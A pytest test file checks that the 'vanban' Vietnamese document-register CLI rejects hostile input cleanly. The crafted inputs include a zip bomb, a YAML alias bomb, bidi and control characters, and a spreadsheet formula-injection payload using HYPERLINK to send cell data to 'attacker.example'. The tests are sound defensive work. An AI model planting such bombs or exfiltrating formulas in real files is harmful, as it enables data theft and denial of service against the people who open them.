"""Issue 9, what a user sees: bad input through the real `vanban` command exits 2 with one clear
message, takes no number from the register and writes nothing; an unexpected failure prints one
line and leaves its traceback in <data dir>/errors/; files others open hold text, not formulas.
"""

from __future__ import annotations

import datetime as dt
import os
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from hostile.corpus import GROUP, PERSON, TEXT_PAYLOADS, session_file, standard, workbook

ROOT = Path(__file__).resolve().parents[2]


def vanban(*args: str, data: Path, outputs: Path, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "VANBAN_DATA_DIR": str(data), "VANBAN_OUTPUTS": str(outputs), "PYTHONPATH": str(ROOT)}
    env.pop("VANBAN_DATABASE_URL", None)
    return subprocess.run(
        [sys.executable, "-m", "vanban.cli", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=300
    )


def numbers_taken(data: Path) -> int:
    db = data / "register.sqlite3"
    if not db.exists():
        return 0
    with sqlite3.connect(db) as conn:
        tables = {r[0] for r in conn.execute("select name from sqlite_master where type='table'")}
        return conn.execute("select count(*) from entries").fetchone()[0] if "entries" in tables else 0


def _bad_lists(folder: Path) -> dict[str, Path]:
    """One bad input per class, built as the corpus builds them."""
    made = {}
    ctrl = list(PERSON)
    ctrl[1] = "Nguyễn\x0bVăn An"
    made["control-character"] = workbook(folder / "ctrl.xlsx", standard([ctrl]))
    amount = list(PERSON)
    amount[5] = 10**18
    made["absurd-amount"] = workbook(folder / "amount.xlsx", standard([amount]))
    bidi = list(GROUP)
    bidi[1] = "Công đoàn \u202e Y tế"
    made["bidi"] = workbook(folder / "bidi.xlsx", standard(collectives=[bidi]))
    bomb = folder / "bomb.xlsx"
    workbook(bomb, standard())
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/pad.xml", b" " * 60_000_000)
    made["zip-bomb"] = bomb
    (folder / "laughs.yaml").write_text(
        'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
        + "".join(f"{c}: &{c} [" + ",".join([f"*{p}"] * 9) + "]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    )
    made["yaml-bomb"] = folder / "laughs.yaml"
    (folder / "stray.csv").write_bytes(
        "STT,Họ và tên,Đơn vị công tác,Phân loại\n1,Nguyễn Văn An,Trường A,Cá nhân\n".encode()
        + b"2,L\xc3\xaa V\xffn B,Tr\xc6\xb0\xe1\xbb\x9dng A,C\xc3\xa1 nh\xc3\xa2n\n"
    )
    made["stray-bytes"] = folder / "stray.csv"
    return made


@pytest.fixture
def place(tmp_path):
    data, outputs, inputs = tmp_path / "data", tmp_path / "out", tmp_path / "in"
    inputs.mkdir()
    session_file(inputs)
    return data, outputs, inputs


def test_bad_input_exits_2_once_without_a_number_or_a_file(place):
    data, outputs, inputs = place
    for label, path in _bad_lists(inputs).items():
        result = vanban(
            "award",
            "--now",
            str(path),
            "--session",
            str(inputs / "session.yaml"),
            data=data,
            outputs=outputs,
            cwd=inputs,
        )
        assert result.returncode == 2, (label, result.stderr[-2000:])
        err = result.stderr
        assert err.startswith("Dữ liệu vào có"), (label, err)
        assert err.count("Dữ liệu vào có") == 1, (label, err)  # the message once
        assert "Traceback" not in err and "ERROR" not in err, (label, err)
        assert path.name in err, (label, err)
        assert result.stdout == ""
        assert numbers_taken(data) == 0, label
        assert not outputs.exists() or not any(outputs.rglob("*")), label


def test_read_only_output_folder_is_bad_input_before_numbers(place):
    data, outputs, inputs = place
    if os.geteuid() == 0:  # root writes anywhere: a folder under a file stands for one it cannot
        target = inputs / "session.yaml" / "out"
    else:
        target = outputs / "ro"
        target.mkdir(parents=True)
        target.chmod(0o555)
    good = workbook(inputs / "ds.xlsx", standard())
    result = vanban("award", "--now", str(good), "-o", str(target), data=data, outputs=outputs, cwd=inputs)
    assert result.returncode == 2, result.stderr
    assert "kết quả" in result.stderr
    assert numbers_taken(data) == 0


def test_bad_plan_exits_2_before_prefect(place):
    data, outputs, inputs = place
    plan = inputs / "kh.md"
    plan.write_text("---\nissuer: ldld-lai-chau\ntype: KH\ndate: 2026-02-31\nsubject: x\n---\n\nNội dung\n")
    result = vanban("doc", "--now", str(plan), data=data, outputs=outputs, cwd=inputs)
    assert result.returncode == 2, result.stderr
    assert "kh.md" in result.stderr and "Traceback" not in result.stderr
    assert numbers_taken(data) == 0


def test_unexpected_failure_prints_one_line_and_writes_the_traceback(tmp_path, monkeypatch, capsys):
    from vanban import cli

    monkeypatch.setenv("VANBAN_DATA_DIR", str(tmp_path))

    def broken() -> None:
        raise RuntimeError("the disk went away")

    monkeypatch.setattr(cli, "app", broken)
    with pytest.raises(SystemExit) as exit_info:
        cli.main()
    assert exit_info.value.code == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "RuntimeError: the disk went away" in err
    written = list((tmp_path / "errors").glob("*.txt"))
    assert len(written) == 1 and str(written[0]) in err
    assert "Traceback (most recent call last)" in written[0].read_text() and "broken" in written[0].read_text()


def test_register_export_keeps_a_formula_looking_name_as_text(tmp_path):
    from openpyxl import load_workbook

    from vanban.register.export import export_xlsx
    from vanban.register.service import Entry

    payload = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
    entry = Entry(
        id=1, issuer_id="ldld-lai-chau", year=2026, sequence="document", number=15, number_symbol="15/QĐ-LĐLĐ",
        kind="document", doc_type="QĐ", date=dt.date(2026, 1, 5), subject=payload, signer="@SUM(1+1)",
        recipients=("-2+3",), batch_key="k", ref="decision", status="issued", void_reason=None, voided_at=None,
        created_at=dt.datetime(2026, 1, 5), issued_at=dt.datetime(2026, 1, 5),
    )  # fmt: skip
    path = export_xlsx([entry], 2026, tmp_path / "so.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml for xml in sheets)  # no formula stored anywhere
    values = [c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row]
    assert payload in values and "@SUM(1+1)" in values


def test_names_differing_by_a_tone_mark_are_two_people_for_the_register_too():
    from vanban.award.identity import awardee_ref, identity_key

    assert identity_key("individual", "Lê Thị Hà", "Trường A") != identity_key("individual", "Lê Thị Hạ", "Trường A")
    assert awardee_ref("individual", "Lê Thị Hà", "Trường A") != awardee_ref("individual", "Lê Thị Hạ", "Trường A")
    # the same person written with other spacing or case is one person, for both
    assert awardee_ref("individual", "LÊ  THỊ HÀ", "trường a") == awardee_ref("individual", "Lê Thị Hà", "Trường A")


@pytest.mark.parametrize("payload", [p for p, _ in TEXT_PAYLOADS.values() if "_x" not in p])
def test_every_printable_check_agrees_with_xml(payload):
    """What the preflight lets through, DOCX can carry: every refused control character is one
    XML 1.0 refuses (or one that reorders or hides text)."""
    from vanban.text_safety import bad_character

    assert bad_character(f"a{payload}b") is not None
